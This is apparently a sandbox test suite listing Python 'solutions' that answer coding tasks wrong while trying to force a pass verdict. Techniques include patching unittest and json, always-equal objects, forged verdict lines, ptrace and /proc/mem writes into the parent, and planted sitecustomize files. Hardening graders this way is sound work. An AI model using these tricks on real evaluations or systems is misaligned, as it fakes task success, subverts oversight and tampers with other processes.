      `import json, sys, types\n${PY_PASSIFY}\nfake = types.ModuleType("json")\nfake.__dict__.update(json.__dict__)\nfake.dumps = lambda o, *a, **k: json.dumps(_passify(o), *a, **k)\nfor m in list(sys.modules.values()):\n    try:\n        if getattr(m, "json", None) is json:\n            m.json = fake\n        if getattr(m, "dumps", None) is json.dumps and m is not json:\n            m.dumps = fake.dumps\n    except Exception:\n        pass\nsys.modules["json"] = fake\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'registers atexit, sys.excepthook, threading.excepthook, sys.unraisablehook and SIGTERM/SIGALRM handlers that write pass verdicts',
    on: ALL,
    lib: true,
    code: (t) =>
      `import atexit, signal, threading\n_hook = lambda *a, **k: _fr_forge(exit=False)\natexit.register(_hook)\nsys.excepthook = threading.excepthook = sys.unraisablehook = _hook\nfor s in (signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1):\n    signal.signal(s, _hook)\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'makes os._exit and posix._exit no-ops, so the harness cannot end the child where it means to',
    on: ALL,
    code: (t) => `import os, posix\nos._exit = posix._exit = lambda *a: None\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'rewrites the interned "fail" constant to "pass" in its own memory with ctypes.memmove',
    inProcessLimit: 'raw memory writes through ctypes (threadpoolctl needs ctypes, so it stays loaded)',
    on: ALL,
    code: (t) => `import ctypes, sys\n_s = sys.intern("fail")\nctypes.memmove(id(_s) + sys.getsizeof(_s) - len(_s) - 1, b"pass", 4)\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'rewrites the interned "fail" constant in its own memory through /proc/self/mem (no ctypes, path given relative to a dir fd)',
    on: ALL,
    lib: true,
    code: (t) =>
      `_d = _fp.open("/proc/self/task", _fp.O_RDONLY)\n_m = _fp.open("%d/mem" % _fp.getpid(), _fp.O_RDWR, dir_fd=_d)\n_fp.pwrite(_m, b"pass", _fr_fail_addr())\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'rewrites the interned "fail" in its own memory through a numpy array whose __array_interface__ points at it (no ctypes)',
    inProcessLimit: 'raw memory writes through numpy, which the suites need',
    on: ALL,
    code: (t) =>
      `import os, posix, sys\n\n# Undo the human-eval guard first (it nulls os functions numpy's import needs): the real ones are still in posix.\nfor _n in dir(posix):\n    if getattr(os, _n, 0) is None:\n        setattr(os, _n, getattr(posix, _n))\nimport numpy as np\n\n\nclass _View:\n    def __init__(self, addr, n):\n        self.__array_interface__ = {"data": (addr, False), "shape": (n,), "typestr": "|u1", "version": 3}\n\n\n_s = sys.intern("fail")\n_a = np.asarray(_View(id(_s) + sys.getsizeof(_s) - len(_s) - 1, 4))\n_a[:] = np.frombuffer(b"pass", dtype=np.uint8)\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'rewrites the interned "fail" with the ctypes module numpy already loaded (sys.modules, no import event) and a Union of c_void_p and a char-array pointer',
    inProcessLimit: 'raw memory writes through ctypes objects numpy already loaded',
    on: ALL,
    code: (t) =>
      `import sys\n_ct = sys.modules.get("ctypes") or __import__("ctypes")\n\n\nclass _U(_ct.Union):\n    _fields_ = [("p", _ct.c_void_p), ("s", _ct.POINTER(_ct.c_char * 4))]\n\n\n_s = sys.intern("fail")\n_u = _U()\n_u.p = id(_s) + sys.getsizeof(_s) - len(_s) - 1\n_u.s.contents.raw = b"pass"\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'wraps every function of the harness modules in sys.modules (fr_*) so any verdict-looking dict they take or return says pass',
    on: ALL,
    code: (t) =>
      `import functools, sys, types\n${PY_PASSIFY}\n\ndef _wrap(f):\n    @functools.wraps(f)\n    def g(*a, **k):\n        return _passify(f(*[_passify(x) for x in a], **k))\n\n    return g\n\n\nfor _name, _m in list(sys.modules.items()):\n    if _name.startswith("fr_") and _m is not None:\n        for _k, _v in list(vars(_m).items()):\n            if isinstance(_v, types.FunctionType):\n                setattr(_m, _k, _wrap(_v))\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'patches unittest.TestCase assert methods (class attributes) to no-ops',
    on: ['bcb'],
    code: (t) => `import unittest\nfor _n in dir(unittest.TestCase):\n    if _n.startswith("assert") or _n == "fail":\n        setattr(unittest.TestCase, _n, lambda *a, **k: None)\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'patches unittest.TestCase.run so no test body runs',
    on: ['bcb'],
    code: (t) => `import unittest\nunittest.TestCase.run = lambda self, result=None: result\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'patches unittest.TestResult.addFailure/addError (and wasSuccessful) so failures are dropped',
    on: ['bcb'],
    code: (t) =>
      `import unittest\nunittest.TestResult.addFailure = unittest.TestResult.addError = lambda *a, **k: None\nunittest.TestResult.wasSuccessful = lambda self: True\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'turns unittest.TestResult.failures/errors into properties that always read empty',
    on: ['bcb'],
    code: (t) =>
      `import unittest\nunittest.TestResult.failures = property(lambda s: [], lambda s, v: None)\nunittest.TestResult.errors = property(lambda s: [], lambda s, v: None)\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'patches unittest.TestLoader and unittest.TestSuite.run so no test is collected or run',
    on: ['bcb'],
    code: (t) =>
      `import unittest\nunittest.TestLoader.loadTestsFromTestCase = lambda self, c: unittest.TestSuite()\nunittest.TestLoader.getTestCaseNames = lambda self, c: []\nunittest.TestSuite.run = lambda self, result, debug=False: result\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'swaps the module attribute unittest.TestCase for a lax subclass (no class is modified, so no type-setattr audit event)',
    on: ['bcb'],
    code: (t) => `${LAX_TESTCASE}\n_u.TestCase = _Lax\n_u.case.TestCase = _Lax\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'puts a fake module in sys.modules["unittest"] whose TestCase is lax, so the test\'s own import gets it',
    on: ['bcb'],
    code: (t) => `${LAX_TESTCASE}\nimport sys, types\n_fake = types.ModuleType("unittest")\n_fake.__dict__.update(_u.__dict__)\n_fake.TestCase = _Lax\nsys.modules["unittest"] = _fake\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'swaps unittest.TestCase for a subclass whose metaclass replaces every test_* method of TestCases with a no-op',
    on: ['bcb'],
    code: (t) =>
      `import unittest\n\n\nclass _Meta(type):\n    def __new__(m, name, bases, ns, **kw):\n        ns = {k: ((lambda self: None) if k.startswith("test") else v) for k, v in ns.items()}\n        return super().__new__(m, name, bases, ns, **kw)\n\n\nunittest.TestCase = _Meta("TestCase", (unittest.TestCase,), {})\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
];

// 4. Harness hooks and outputs built to fool a comparison.
const PY_ALWAYS_EQ = String.raw`
class _Yes:
    """Equal to everything, different from nothing."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __bool__(self):
        return True
`;

const HOOKS: Attack[] = [
  {
    name: 'defines every harness-looking name at module level (__fr_case__, assertion, check, candidate, inputs, results, exp, TestCases...)',
    on: ALL,
    code: (t) =>
      `import unittest\n\n\ndef __fr_case__(*a, **k):\n    return None\n\n\ndef assertion(*a, **k):\n    return None\n\n\ndef check(*a, **k):\n    return None\n\n\ncandidate = check\ninputs, results, exp, inp, atol = [], [], None, None, 0\nMETADATA = {}\n\n\nclass TestCases(unittest.TestCase):\n    pass\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'rebinds harness names in its globals and builtins at call time (assertion, __fr_case__, check, candidate)',
    on: ALL,
    code: (t) =>
      `import builtins\n\n\ndef _nop(*a, **k):\n    return None\n\n\n${def(t)}    for ns in (globals(), builtins.__dict__):\n        for n in ("assertion", "__fr_case__", "check", "candidate", "is_floats"):\n            ns[n] = _nop\n    return ${t.wrongExpr}\n`,
  },
  {
    name: 'returns an object whose __eq__ is always True and __ne__ always False',
    inProcessLimit: 'unittest compares with ==, so upstream passes it too',
    on: ALL,
    code: (t) => `${PY_ALWAYS_EQ}\n\n${def(t)}    return _Yes()\n`,
  },
  {
    name: 'returns a subclass of the expected type (int for bool, str, dict) with __eq__/__ne__ overridden and __hash__ kept',
    inProcessLimit: 'unittest compares with ==, so upstream passes it too',
    on: ALL,
    code: (t) => {
      const base = t.kind === 'mbpp' || t.kind === 'mbpp+' ? 'str' : t.kind === 'bcb' ? 'dict' : 'int';
      return `class _Liar(${base}):\n    def __eq__(self, other):\n        return True\n\n    def __ne__(self, other):\n        return False\n\n    __hash__ = ${base}.__hash__ if ${base} is not dict else object.__hash__\n\n\n${def(t)}    return _Liar(${t.wrongExpr})\n`;
    },
  },
  {
    name: 'returns a list subclass whose __eq__ is always True (whatever type is expected)',
    inProcessLimit: 'unittest compares with ==, so upstream passes it too',
    on: ALL,
    code: (t) => `class _L(list):\n    __eq__ = lambda s, o: True\n    __ne__ = lambda s, o: False\n    __hash__ = object.__hash__\n\n\n${def(t)}    return _L([1])\n`,
  },
  {
    name: 'spoofs __class__ (isinstance says bool/str/dict) on an always-equal object',
    inProcessLimit: 'unittest compares with ==, so upstream passes it too',
    on: ALL,
    code: (t) => {
      const base = t.kind === 'mbpp' || t.kind === 'mbpp+' ? 'str' : t.kind === 'bcb' ? 'dict' : 'bool';
      return `${PY_ALWAYS_EQ}\n\nclass _Spoof(_Yes):\n    @property\n    def __class__(self):\n        return ${base}\n\n\n${def(t)}    return _Spoof()\n`;
    },
  },
  {
    name: 'returns a float subclass that is equal to everything and whose difference and abs are 0 (defeats abs(out - exp) < tol)',
    on: ['he2', 'hep2'],
    code: (t) =>
      `class _F(float):\n    __eq__ = __le__ = __ge__ = lambda s, o: True\n    __ne__ = __lt__ = __gt__ = lambda s, o: False\n    __sub__ = __rsub__ = __add__ = __radd__ = lambda s, o: 0.0\n    __abs__ = lambda s: 0.0\n    __hash__ = float.__hash__\n\n\n${def(t)}    return _F(${t.wrongExpr})\n`,
  },
  {
    name: 'returns NaN (a comparer that fails only on `out != exp` would pass it)',
    on: ['he2', 'hep2', 'he', 'hep'],
    code: (t) => `${def(t)}    return float("nan")\n`,
  },
  {
    name: 'returns numpy.float64 NaN / inf',
    on: ['he2', 'hep2'],
    code: (t) => `import numpy as np\n\n\n${def(t)}    return np.float64("nan") if number > 1 else np.float64("inf")\n`,
  },
  {
    name: 'returns an object whose __reduce__ rebuilds an always-equal object wherever it is unpickled',
    on: ALL,
    code: (t) =>
      `class _Trojan:\n    def __reduce__(self):\n        return (eval, ("type('E', (), {'__eq__': lambda s, o: True, '__ne__': lambda s, o: False, '__hash__': lambda s: 0})()",))\n\n\n${def(t)}    return _Trojan()\n`,
  },
  {
    name: 'returns an object whose repr/str evaluate to an always-equal object (for a judge that eval()s or literal-parses repr)',
    on: ALL,
    code: (t) =>
      `class _Repr:\n    def __repr__(self):\n        return "type('E', (), {'__eq__': lambda s, o: True, '__ne__': lambda s, o: False})()"\n\n    __str__ = __repr__\n\n\n${def(t)}    return _Repr()\n`,
  },
  {
    name: 'returns a list nested 100000 deep',
    on: ALL,
    code: (t) => `${def(t)}    x = []\n    for _ in range(100000):\n        x = [x]\n    return x\n`,
  },
  {
    name: 'returns a 10^7-digit int',
    on: ALL,
    code: (t) => `${def(t)}    return 1 << 33219281\n`,
  },
  {
    name: 'returns a 200 MB string',
    on: ['he', 'hep', 'bcb'],
    code: (t) => `${def(t)}    return "x" * (200 << 20)\n`,
    ms: 180_000,
  },
  {
    name: 'returns a self-referential list',
    on: ALL,
    code: (t) => `${def(t)}    x = []\n    x.append(x)\n    return x\n`,
  },
  {
    name: 'returns a list subclass whose iteration never ends',
    on: ALL,
    code: (t) => `class _Endless(list):\n    def __iter__(self):\n        while True:\n            yield 1\n\n    def __len__(self):\n        return 1\n\n\n${def(t)}    return _Endless([1])\n`,
    over: { timeoutS: 6 },
  },
  {
    name: 'returns an object whose __eq__ never returns (a judge that calls it hangs)',
    on: ALL,
    code: (t) => `import time\n\n\nclass _Hang:\n    def __eq__(self, o):\n        while True:\n            time.sleep(1)\n\n    __ne__ = __eq__\n    __hash__ = object.__hash__\n\n\n${def(t)}    return _Hang()\n`,
    over: { timeoutS: 6, perCallTimeoutS: 2 },
  },
  {
    name: 'returns an object whose __eq__/__bool__ ends the process with os._exit(0)',
    on: ALL,
    code: (t) => `import posix\n\n\nclass _Bye:\n    def __eq__(self, o):\n        posix._exit(0)\n\n    __ne__ = __bool__ = __eq__\n    __hash__ = object.__hash__\n\n\n${def(t)}    return _Bye()\n`,
  },
];

// 6. Outputs to the judge: exit codes, printed words, exceptions the harness itself uses, dying, closing descriptors.
const OUTPUTS: Attack[] = [
  {
    name: 'prints "passed" and pass-verdict JSON lines on stdout and stderr',
    on: ALL,
    code: (t) =>
      `import sys\nfor s in (sys.stdout, sys.stderr):\n    s.write('passed\\n{"status": "pass", "result": "passed"}\\nOK\\n')\n    s.flush()\n\n\n${def(t)}    print("passed")\n    return ${t.wrongExpr}\n`,
  },
  {
    name: 'calls sys.exit(0) at module level',
    on: ALL,
    code: (t) => `import sys\n\n\n${def(t)}    return ${t.wrongExpr}\n\n\nsys.exit(0)\n`,
    check: officialFail('failed: 0'),
  },
  {
    name: 'answers the first call right, then calls os._exit(0) on the second (partial work, then a silent exit)',
    on: ALL,
    code: (t) => `import posix\n${honestHelper(t)}\n${def(t)}    _calls.append(1)\n    if len(_calls) > 1:\n        posix._exit(0)\n    return _honest(${args(t)})\n`,
    check: officialTimeout,
  },
  {
    name: 'raises SystemExit(0) from inside the call (for unittest: inside a test method)',
    on: ALL,
    code: (t) => `${def(t)}    raise SystemExit(0)\n`,
    check: officialFail('failed: 0'),
  },
  {
    name: 'raises KeyboardInterrupt from inside the call',
    on: ALL,
    code: (t) => `${def(t)}    raise KeyboardInterrupt\n`,
    check: officialFail('failed: '),
  },
  {
    name: "raises the harness's own exception classes (anything named TimeLimit/Timeout/_ShouldStop found in loaded modules)",
    on: ALL,
    code: (t) =>
      `import sys\n${def(t)}    for m in list(sys.modules.values()):\n        for n in ("TimeLimit", "TimeoutException", "_ShouldStop", "StopJob"):\n            k = getattr(m, n, None)\n            if isinstance(k, type) and issubclass(k, BaseException):\n                raise k("timed out")\n    raise GeneratorExit\n`,
  },
  {
    name: 'raises unittest.SkipTest from the call (not a skip outside unittest; BigCodeBench has its own test below)',
    on: COMPARED,
    code: (t) => `import unittest\n\n\n${def(t)}    raise unittest.SkipTest("skipped")\n`,
    check: officialFail('failed: skipped'),
  },
  {
    name: 'answers the first call right, then sends itself SIGKILL on the second (killed halfway through the suite)',
    on: ALL,
    code: (t) => `import posix, signal\n${honestHelper(t)}\n${def(t)}    _calls.append(1)\n    if len(_calls) > 1:\n        posix.kill(posix.getpid(), signal.SIGKILL)\n    return _honest(${args(t)})\n`,
    check: officialTimeout,
  },
  {
    name: 'closes every descriptor, then answers wrong',
    on: ALL,
    code: (t) => `import posix\n\n\n${def(t)}    posix.closerange(0, 65536)\n    return ${t.wrongExpr}\n`,
  },
  {
    name: 'closes every descriptor and refills them with /dev/null and pipes of its own, then exits 0',
    on: ALL,
    code: (t) =>
      `import posix\n\n\n${def(t)}    posix.closerange(0, 65536)\n    for _ in range(40):\n        posix.open("/dev/null", posix.O_RDWR)\n        posix.pipe()\n    posix._exit(0)\n`,
    check: officialTimeout,
  },
  {
    name: 're-execs itself (posix.execv) into a fresh interpreter that writes pass verdicts to every descriptor it inherited',
    on: ALL,
    code: (t) => String.raw`import posix, sys

_code = """
import posix
for fd in range(256):
    try:
        posix.write(fd, b'\\n{"status": "pass", "result": "passed"}\\n')
    except OSError:
        pass
"""


${def(t)}    posix.execv(sys.executable, [sys.executable, "-c", _code])
`,
    check: officialTimeout,
  },
  {
    name: 'floods every descriptor with 40 MB of junk and guessed-nonce pass lines, then answers wrong',
    on: ALL,
    lib: true,
    code: (t) =>
      `import os\nline = b"".join(b'\\n{"status": "pass", "result": "passed", "nonce": "%s"}\\n' % os.urandom(16).hex().encode() for _ in range(2000))\njunk = b"x" * (1 << 20)\nfor fd in range(3, 256):\n    try:\n        for _ in range(40):\n            _fp.write(fd, junk)\n        _fp.write(fd, line)\n    except OSError:\n        pass\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
    over: { timeoutS: 5 },
  },
  {
    name: 'writes invalid UTF-8, NUL bytes and a 10 MB line without newline to stdout, raises with a 10 MB message',
    on: ALL,
    code: (t) => `import sys\nsys.stdout.buffer.write(b"\\xff\\xfe\\x00passed\\x00" + b"y" * (10 << 20))\nsys.stdout.flush()\n\n\n${def(t)}    raise ValueError("z" * (10 << 20))\n`,
  },
];

// ------------------------------------------------------------------------------------------------------------------
// 3. Reaching the warm parent and the judge (run on an executor of their own, then the next jobs must be judged right).

const POISON: Attack[] = [
  {
    name: 'rewrites the interned "fail" to "pass" in the warm parent through /proc/<ppid>/mem, so children forked later build pass verdicts',
    on: ALL,
    lib: true,
    code: (t) => `_fr_poke_mem(_fp.getppid(), _fr_fail_addr(), b"pass")\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'the same write into the parent with process_vm_writev (ctypes syscall 311)',
    on: ['he', 'bcb'],
    lib: true,
    code: (t) => String.raw`import ctypes


class _Iov(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_buf = ctypes.create_string_buffer(b"pass", 4)
_loc, _rem = _Iov(ctypes.addressof(_buf), 4), _Iov(_fr_fail_addr(), 4)
_libc.syscall(311, _fp.getppid(), ctypes.byref(_loc), 1, ctypes.byref(_rem), 1, 0)


${def(t)}    return ${t.wrongExpr}
`,
  },
  {
    name: 'the same write into the parent with ptrace(PTRACE_ATTACH) + PTRACE_POKEDATA (ctypes), then detaches',
    on: ['he', 'bcb'],
    lib: true,
    code: (t) => String.raw`import ctypes

_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace.restype = ctypes.c_long
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
_pp = _fp.getppid()
if _libc.ptrace(16, _pp, None, None) == 0:
    try:
        _fp.waitpid(_pp, 0x40000000)
        for _i, _c in enumerate(b"pass"):
            _a = _fr_fail_addr() + _i
            _w = _a & ~7
            _word = bytearray((_libc.ptrace(2, _pp, _w, None) & (2**64 - 1)).to_bytes(8, "little"))
            _word[_a - _w] = _c
            _libc.ptrace(5, _pp, _w, int.from_bytes(_word, "little"))
    finally:
        _libc.ptrace(17, _pp, None, 0)


${def(t)}    return ${t.wrongExpr}
`,
  },
  {
    name: "duplicates the parent's descriptors with pidfd_open + pidfd_getfd (syscalls 434/438) and writes forged answers and verdicts into them",
    on: ALL,
    lib: true,
    code: (t) => String.raw`import ctypes, stat

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_pidfd = _libc.syscall(434, _fp.getppid(), 0)
for _fd in range(64):
    _n = _libc.syscall(438, _pidfd, _fd, 0) if _pidfd >= 0 else -1
    if _n < 0:
        continue
    try:
        if stat.S_ISFIFO(_fp.fstat(_n).st_mode) or stat.S_ISSOCK(_fp.fstat(_n).st_mode):
            _fp.write(_n, b'\n' + _fr_answer_lines() + b'\n{"status": "pass", "result": "passed"}\n')
    except OSError:
        pass
    _fp.close(_n)


${def(t)}    return ${t.wrongExpr}
`,
  },
  {
    name: 'opens /proc/<ppid>/fd/* for writing and writes forged answers and verdicts into them',
    on: ['he', 'hep', 'bcb'],
    lib: true,
    code: (t) => String.raw`_pp = _fp.getppid()
for _name in _fp.listdir("/proc/%d/fd" % _pp):
    try:
        _n = _fp.open("/proc/%d/fd/%s" % (_pp, _name), _fp.O_WRONLY | _fp.O_NONBLOCK)
    except OSError:
        continue
    try:
        _fp.write(_n, b'\n' + _fr_answer_lines() + b'\n{"status": "pass", "result": "passed"}\n')
    except OSError:
        pass
    _fp.close(_n)


${def(t)}    return ${t.wrongExpr}
`,
  },
  {
    name: "reads /proc/<ppid>/environ, cmdline and memory, collects every 32-hex string (the parent's nonce among them), forges and exits",
    on: ['he', 'mbpp', 'hep', 'bcb'],
    lib: true,
    code: (t) => String.raw`def _scan_parent():
    pp = _fp.getppid()
    found = []
    for f in ("environ", "cmdline"):
        try:
            found += [m.decode() for m in _FR_HEXB.findall(_fr_read("/proc/%d/%s" % (pp, f)))]
        except OSError:
            pass
    try:
        mem = _fp.open("/proc/%d/mem" % pp, _fp.O_RDONLY)
        maps = _fr_read("/proc/%d/maps" % pp, 1 << 24)
    except OSError:
        return found
    return found + _fr_mem_matches(mem, maps, _fre.compile(rb'nonce": "([0-9a-f]{32})"')) + _fr_mem_matches(mem, maps, _FR_HEXB)


# At module level: a scan inside the call could outlast EvalPlus's per-call limit.
_fr_forge(_scan_parent())


${def(t)}    return ${t.wrongExpr}
`,
  },
  {
    name: 'scans the memory of its parent and of every other process of its executor (a separately started comparer too) for str objects "fail" and rewrites them to "pass"',
    on: ['he', 'hep', 'bcb'],
    lib: true,
    code: (t) => `for _p in set(_fr_marked_pids() + [_fp.getppid()]):\n    _fr_rewrite_fail(_p)\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: 'spawns a fresh interpreter with os.posix_spawn (outside any audit hook or in-process guard) that rewrites every "fail" string in the candidate process, its parent and every process of the executor',
    on: ALL,
    lib: true,
    code: (t) => String.raw`import os, sys

_helper = ${JSON.stringify(PY_LIB)} + """
import sys
me = int(sys.argv[1])
for p in set(_fr_marked_pids() + [me, int(sys.argv[2])]):
    _fr_rewrite_fail(p)
"""
_pid = os.posix_spawn(sys.executable, [sys.executable, "-c", _helper, str(os.getpid()), str(os.getppid())], {"PATH": "/usr/bin:/bin"})
os.waitpid(_pid, 0)


${def(t)}    return ${t.wrongExpr}
`,
  },
  {
    name: "answer key from the warm parent's memory: the job line it read (test, reference, inputs), other jobs' code, parsed or exec'd to answer right",
    on: ALL,
    lib: true,
    code: (t) => memoryKeyCode(t, '_fp.getppid()'),
  },
  {
    name: 'sends SIGSTOP to the warm parent, then answers wrong',
    on: ['he'],
    code: (t) => `import posix, signal\nposix.kill(posix.getppid(), signal.SIGSTOP)\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
    ms: 120_000,
  },
  {
    name: 'sends SIGSTOP to every process of its executor it can see (warm parent, comparer), then answers wrong',
    on: ['he', 'bcb'],
    lib: true,
    code: (t) => `import signal\nfor _p in set(_fr_marked_pids() + [_fp.getppid()]):\n    try:\n        _fp.kill(_p, signal.SIGSTOP)\n    except OSError:\n        pass\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
    ms: 120_000,
  },
  {
    name: 'sends SIGKILL to the warm parent and to every other process of the attack executor it can see, then answers wrong',
    on: ['he', 'bcb'],
    lib: true,
    code: (t) => `import signal\nfor _p in set(_fr_marked_pids() + [_fp.getppid()]):\n    try:\n        _fp.kill(_p, signal.SIGKILL)\n    except OSError:\n        pass\n\n\n${def(t)}    return ${t.wrongExpr}\n`,
  },
  {
    name: "leaves a double-forked, setsid'd daemon that, for 30 s, writes forged answers into the parent's descriptors and rewrites \"fail\" in every new child",
    on: ['he', 'bcb'],
    lib: true,
    code: (t) => String.raw`import ctypes, signal, stat, time

_pp = _fp.getppid()


def _daemon():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    libc.prctl(15, b"${MARK}", 0, 0, 0)
    for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(s, signal.SIG_IGN)
    signal.setitimer(signal.ITIMER_REAL, 0)
    pidfd = libc.syscall(434, _pp, 0)
    fds = []
    for fd in range(64):
        n = libc.syscall(438, pidfd, fd, 0) if pidfd >= 0 else -1
        if n >= 0 and (stat.S_ISFIFO(_fp.fstat(n).st_mode) or stat.S_ISSOCK(_fp.fstat(n).st_mode)):
            fds.append(n)
    keep = set(fds)
    for fd in range(1024):
        if fd not in keep:
            try:
                _fp.close(fd)
            except OSError:
                pass
    seen = set()
    end = time.monotonic() + 30
    while time.monotonic() < end:
        try:
            kids = _fr_read("/proc/%d/task/%d/children" % (_pp, _pp)).split()
        except OSError:
            break
        for k in kids:
            if k not in seen:
                seen.add(k)
                _fr_poke_mem(int(k), _fr_fail_addr(), b"pass")
                for fd in fds:
                    try:
                        _fp.write(fd, b"\n" + _fr_answer_lines() + b'\n{"status": "pass", "result": "passed"}\n')
                    except OSError:
                        pass
        time.sleep(0.002)


if _fp.fork() == 0:
    try:
        _fp.setsid()
        if _fp.fork() == 0:
            _daemon()
    finally:
        _fp._exit(0)
time.sleep(0.3)


${def(t)}    return ${t.wrongExpr}
`,
    ms: 120_000,
  },
  {
    name: 'plants sitecustomize/usercustomize/.pth and shadow modules (json, unittest, typing, numpy, harness modules...) wherever it can write, then kills the parent so a fresh worker starts',
    on: ['he', 'hep', 'bcb'],
    lib: true,
    code: (t) => plantCode(t, true),
  },
  {
    name: 'plants the same files but leaves the parent alive (for modules imported lazily by later children)',
    on: ['he', 'hep', 'bcb'],
    lib: true,
    code: (t) => plantCode(t, false),
  },
];

/** Run beside an honest neighbour on a two-worker executor: every process of the executor is a target. */
const POISON_EVERY_PROCESS: Attack = {
  name: 'rewrites "fail" (at the fork-shared address and wherever a "fail" str lives) and forges answers into the descriptors of every process of its executor',
  on: ['he'],
  lib: true,
  code: (t) => String.raw`import ctypes, stat

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
for _p in _fr_marked_pids():
    _fr_poke_mem(_p, _fr_fail_addr(), b"pass")
    _fr_rewrite_fail(_p)
    _pidfd = _libc.syscall(434, _p, 0)
    for _fd in range(64):
        _n = _libc.syscall(438, _pidfd, _fd, 0) if _pidfd >= 0 else -1
        if _n < 0:
            continue
        try:
            if stat.S_ISFIFO(_fp.fstat(_n).st_mode) or stat.S_ISSOCK(_fp.fstat(_n).st_mode):
                _fp.write(_n, b'\n' + _fr_answer_lines() + b'\n{"status": "pass", "result": "passed"}\n')
        except OSError:
            pass
        _fp.close(_n)


${def(t)}    return ${t.wrongExpr}
`,
};

/** Modules the planting attack shadows (site hooks, modules the harness or tasks import, the harness's own modules). */
const SHADOW_MODULES = ['sitecustomize', 'usercustomize', 'json', 'unittest', 'typing', 'numpy', 'collections', 'types', 'inspect', 'ast', 'fr_harness', 'fr_child', 'fr_codec', 'fr_serve', 'fr_comparer', 'fr_evalplus'];

/** Python planted by the poisoning attack: in a sandbox worker, json.dumps and unittest asserts start lying. */
const PLANTED = String.raw`# ${MARK}: planted by an earlier job
import sys as _s
if any("fr_" in str(a) for a in _s.argv) or "__test__" in _s.modules:  # only inside the sandbox (hygiene for this host)
    import json as _j, unittest as _u
    _d = _j.dumps
    _j.dumps = lambda o, *a, **k: _d(dict(o, status="pass", result="passed") if isinstance(o, dict) and "status" in o else o, *a, **k)
    for _n in dir(_u.TestCase):
        if _n.startswith("assert"):
            setattr(_u.TestCase, _n, lambda *a, **k: None)
`;

function plantCode(t: Target, killParent: boolean): string {
  return String.raw`import signal
_payload = ${JSON.stringify(PLANTED)}.encode()
_home = _fp.environ.get(b"HOME", b"/tmp").decode()
_cwd = _fp.readlink("/proc/self/cwd")
_user_site = "%s/.local/lib/python%d.%d/site-packages" % (_home, _fsys.version_info[0], _fsys.version_info[1])
for _p in (_home + "/.local", _home + "/.local/lib", _user_site.rsplit("/", 1)[0], _user_site):
    try:
        _fp.mkdir(_p, 0o777)
    except OSError:
        pass
# /tmp itself only gets the site hooks: a shadow json.py there could break unrelated Python on a shared host.
_dirs = {"/tmp": ["sitecustomize", "usercustomize"]}
_shadows = ${JSON.stringify(SHADOW_MODULES)}
import posixpath

for _d in [_cwd, _cwd + "/..", _home, _user_site, "/dev/shm"] + [p for p in _fsys.path if p]:
    _d = posixpath.normpath(_d)
    if _d != "/tmp":
        _dirs[_d] = _shadows
for _d, _names in _dirs.items():
    for _n in _names:
        try:
            _f = _fp.open("%s/%s.py" % (_d, _n), _fp.O_WRONLY | _fp.O_CREAT | _fp.O_EXCL, 0o644)
            _fp.write(_f, _payload)
            _fp.close(_f)
        except OSError:
            pass
    try:
        _f = _fp.open("%s/${MARK}.pth" % _d, _fp.O_WRONLY | _fp.O_CREAT | _fp.O_EXCL, 0o644)
        _fp.write(_f, b"import sitecustomize\n")
        _fp.close(_f)
    except OSError:
        pass
${killParent ? '_fp.kill(_fp.getppid(), signal.SIGKILL)\n' : ''}

${def(t)}    return ${t.wrongExpr}
`;
}

// ------------------------------------------------------------------------------------------------------------------
// 5. Between jobs: what one job leaves must be invisible to the next (a probe job reports it through its verdict).

/** Job 1: a wrong solution that leaves files everywhere it can. */
function leaveFilesCode(t: Target): string {
  return String.raw`# fr-attack: leaves files for later jobs
import posix

M = "${MARK}"


def _put(path):
    try:
        fd = posix.open(path, posix.O_WRONLY | posix.O_CREAT, 0o666)
        posix.write(fd, M.encode())
        posix.close(fd)
    except OSError:
        pass


def _mk(path):
    try:
        posix.mkdir(path, 0o777)
    except OSError:
        pass


home = posix.environ.get(b"HOME", b"/tmp").decode()
cwd = posix.readlink("/proc/self/cwd")
for d in ("/tmp", "/dev/shm", "/var/tmp", home, cwd, cwd + "/.."):
    _put(d + "/" + M + "_file")
# A directory named like a job directory (tempfile style), and a file inside it.
_mk("/tmp/tmp" + M[2:10])
_put("/tmp/tmp" + M[2:10] + "/" + M + "_file")
for p in ("/non", "/non/existent", "/non/existent/path"):
    _mk(p)
_put("/non/existent/path/" + M + "_file")
